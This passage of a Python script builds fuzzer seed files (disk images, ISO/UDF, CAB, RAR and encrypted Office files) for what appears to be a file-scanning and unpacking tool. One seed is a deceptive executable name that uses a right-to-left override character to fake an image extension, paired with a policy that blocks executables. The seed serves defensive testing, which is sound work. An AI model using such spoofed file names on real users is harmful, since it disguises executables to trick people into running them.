    pd = bytearray(512)
    struct.pack_into("<H", pd, 22, 0)
    struct.pack_into("<II", pd, 188, part, 8)
    lvd = bytearray(512)
    struct.pack_into("<I", lvd, 212, sector)
    lvd[248:264] = long_ad(sector, 0)
    struct.pack_into("<II", lvd, 264, 6, 1)
    lvd[440:446] = struct.pack("<BBHH", 1, 6, 1, 0)
    fsd = bytearray(512)
    fsd[400:416] = long_ad(sector, 1)
    root_fids = fid(0x08, b"", 1) + fid(0, b"hello.txt", 3) + fid(0x03, b"sub", 4)
    sub_fids = fid(0x08, b"", 1) + fid(0, b"inner.txt", 5)
    blocks = [
        tag(256, 0, bytes(fsd)),
        fe(1, 4, 0, len(root_fids), struct.pack("<II", len(root_fids), 2)),
        root_fids.ljust(sector, b"\0"),
        fe(3, 5, 3, 9, b"hello udf"),
        fe(4, 4, 3, len(sub_fids), sub_fids),
        fe(5, 5, 0, 20, struct.pack("<II", 20, 6), extended=True),
        b"inner file of udf...".ljust(sector, b"\0"),
    ]
    image = bytearray(part * sector)
    image[66 * sector:67 * sector] = tag(5, 66, bytes(pd))
    image[67 * sector:68 * sector] = tag(6, 67, bytes(lvd))
    image[68 * sector:69 * sector] = tag(8, 68, b"")
    for blk in blocks:
        image += blk
    last = len(image) // sector
    avdp = bytearray(512)
    struct.pack_into("<IIII", avdp, 16, 3 * sector, 66, 0, 0)
    image += tag(2, last, bytes(avdp))
    return bytes(image[16 * 2048:])


fat = fat12()
images = {
    "unpack_fat": {"fat12.img": fat, "mbr.img": mbr_disk(fat)},
    "unpack_vhd": {
        "fixed.vhd": b"\0" + fat + vhd_footer(2, len(fat), 0xFFFFFFFFFFFFFFFF),
        "dynamic.vhd": b"\0" + vhd_dynamic(fat),
        "spread.vhdx": vhdx(len(fat)),
    },
    "unpack_iso": {"joliet_rr.iso": iso(), "udf.iso": udf()},
}

targets = {
    "document_part": parts,
    "unpack_onenote": onenote,
    "unpack_chm": chm,
    "zip_structure": zips,
    "unpack_zip": zips,
    "zip_differential": zips,
    "unpack_tar": tars,
    "unpack_compressed": compressed,
    "unpack_mime": mail,
    "unpack_data_uris": pages,
    "detect": {**types, **{k: v for k, v in list(zips.items())[:3]}},
    "scan_bytes": {
        **types,
        **zips,
        **tars,
        **mail,
        **pages,
        "tgz": gzip.compress(tars["ustar.tar"], mtime=0),
        "editdata.mso": active_mime(b"hello"),
        "wordml.xml": wordml([(b"editdata.mso", active_mime(b"hello"))]),
    },
    "scan_reader": {k: b"\x10\x20\x40" + v for k, v in list(zips.items())[:4]},
    "names_policy": {"names": b"invoice_\xe2\x80\xaegpj.exe\0[types]\nexecutable = \"block\"\n"},
    "archive_structured": {"a": bytes(range(64)), "b": bytes(range(255, 0, -3))},
    "unpack_smuggle": smuggle,
    "launchers": launchers,
    "uudecode": uu,
    "unpack_pdf": pdfs,
    **images,
}

# Cabinets (stored, MSZIP, LZX uncompressed block; a cut one) and RAR 4/5
# archives of stored entries, written field by field as tests/cab.rs and
# tests/rar_writer.rs write them.
def cab_bytes(method, blocks, files, flags=0, set_names=b""):
    table = b""
    for name, off, size, folder in files:
        table += struct.pack("<IIHHHH", size, off, folder, 0, 0, 0x20) + name + b"\0"
    files_off = 36 + len(set_names) + 8
    data_off = files_off + len(table)
    total = data_off + sum(8 + len(d) for d, _ in blocks)
    v = b"MSCF" + struct.pack("<IIIII", 0, total, 0, files_off, 0) + bytes([3, 1])
    v += struct.pack("<HHHHH", 1, len(files), flags, 0x1234, 0) + set_names
    v += struct.pack("<IHH", data_off, len(blocks), method) + table
    for d, un in blocks:
        v += struct.pack("<IHH", 0, len(d), un) + d
    return v


def mszip_block(data, history=b""):
    c = zlib.compressobj(9, zlib.DEFLATED, -15, zdict=history) if history else zlib.compressobj(9, zlib.DEFLATED, -15)
    return b"CK" + c.compress(data) + c.flush()


def lzx_stored(data):
    bits = (3 << 28) | (len(data) << 4)
    return struct.pack("<HH", bits >> 16, bits & 0xFFFF) + struct.pack("<III", 1, 1, 1) + data


part1, part2 = b"hello cabinet " * 20, b"second block " * 30
cabs = {
    "stored.cab": cab_bytes(0, [(b"alphabeta", 9)], [(b"a.txt", 0, 5, 0), (b"d\\b.txt", 5, 4, 0)]),
    "mszip.cab": cab_bytes(
        1,
        [(mszip_block(part1), len(part1)), (mszip_block(part2, part1), len(part2))],
        [(b"a.txt", 0, len(part1), 0), (b"b.txt", len(part1), len(part2), 0)],
    ),
    "lzx.cab": cab_bytes(0x0F03, [(lzx_stored(b"lzx data"), 8)], [(b"x.bin", 0, 8, 0)]),
    "set.cab": cab_bytes(
        0, [(b"abc", 3), (b"", 0)], [(b"a", 0, 2, 0), (b"b", 2, 9, 0xFFFE)], 2, b"p2.cab\0d2\0"
    ),
}
cabs["cut.cab"] = cabs["mszip.cab"][:-20]


def vint(x):
    out = b""
    while True:
        b, x = x & 0x7F, x >> 7
        if x == 0:
            return out + bytes([b])
        out += bytes([b | 0x80])


def block5(body):
    sized = vint(len(body)) + body
    return struct.pack("<I", zlib.crc32(sized)) + sized


def rar5_bytes(files, volume=False, encrypted=False, method=0):
    v = b"Rar!\x1a\x07\x01\x00" + block5(vint(1) + vint(0) + vint(1 if volume else 0))
    for name, data in files:
        extra = b""
        if encrypted:
            rec = vint(1) + vint(0) + vint(0) + bytes([15]) + b"\x11" * 32
            extra = vint(len(rec)) + rec
        f = vint(2) + vint(0x02 | (1 if extra else 0))
        if extra:
            f += vint(len(extra))
        f += vint(len(data)) + vint(4) + vint(len(data)) + vint(0x20)
        f += struct.pack("<I", zlib.crc32(data)) + vint(method << 7) + vint(1) + vint(len(name)) + name + extra
        v += block5(f) + data
    return v + block5(vint(5) + vint(0) + vint(1 if volume else 0))


def block4(ty, flags, rest):
    h = bytes([ty]) + struct.pack("<HH", flags, 7 + len(rest)) + rest
    return struct.pack("<H", zlib.crc32(h) & 0xFFFF) + h


def rar4_bytes(files, flags=0):
    v = b"Rar!\x1a\x07\x00" + block4(0x73, 0, b"\0" * 6)
    for name, data in files:
        r = struct.pack("<IIBIIBBHI", len(data), len(data), 3, zlib.crc32(data), 0x5A210000, 29, 0x30, len(name), 0x20)
        v += block4(0x74, 0x8000 | flags, r + name) + data
    return v + block4(0x7B, 0x4000, b"")


rars = {
    "stored5.rar": rar5_bytes([(b"a.txt", b"alpha"), (b"d/b.txt", b"beta")]),
    "volume5.rar": rar5_bytes([(b"a.txt", b"alpha")], volume=True),
    "enc5.rar": rar5_bytes([(b"a.txt", b"alpha")], encrypted=True),
    "packed5.rar": rar5_bytes([(b"a.txt", b"alpha")], method=3),
    "stored4.rar": rar4_bytes([(b"a.txt", b"alpha"), (b"d\\b.txt", b"beta")]),
    "enc4.rar": rar4_bytes([(b"a.txt", b"alpha")], flags=0x0004),
}
targets["unpack_cab"] = cabs
targets["unpack_rar"] = rars


def office_encrypted():
    """An OOXML package encrypted as Office does (Agile, VelvetSweatshop) by
    msoffcrypto-tool (PyPI), with 1,000 spin rounds instead of 100,000 so
    that the fuzzer runs it fast; the package is past 4,096 bytes, which
    msoffcrypto-tool 6.1.0 needs to write it right."""
    try:
        from msoffcrypto.method.container.ecma376_encrypted import ECMA376Encrypted
        from msoffcrypto.method.ecma376_agile import ECMA376Agile
    except ImportError:
        return {}
    rows = "".join("<si><t>row %d of %d</t></si>" % (i * 7919 % 10007, i) for i in range(170))
    package = zip_bytes([
        ("[Content_Types].xml", b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
        ("xl/sharedStrings.xml", ("<sst>%s</sst>" % rows).encode()),
    ], zipfile.ZIP_STORED)
    info, key = ECMA376Agile.generate_encryption_parameters("VelvetSweatshop", spin_count=1000)
    data = ECMA376Agile.encrypt_payload(io.BytesIO(package), info.encryptedKey, key, info.keyData.saltValue)
    out = io.BytesIO()
    ECMA376Encrypted(data, ECMA376Agile.get_encryption_information(info, data, key)).write_to(out)
    return {"encrypted.xlsx": out.getvalue()}


targets["unpack_ole"] = office_encrypted()
for target, files in targets.items():
    d = os.path.join(HERE, "seeds", target)
    os.makedirs(d, exist_ok=True)
    for name, data in files.items():
        if name == "iso":
            continue  # too large for a seed; built in tests instead
        with open(os.path.join(d, name), "wb") as f:
            f.write(data)
print("seeds written")
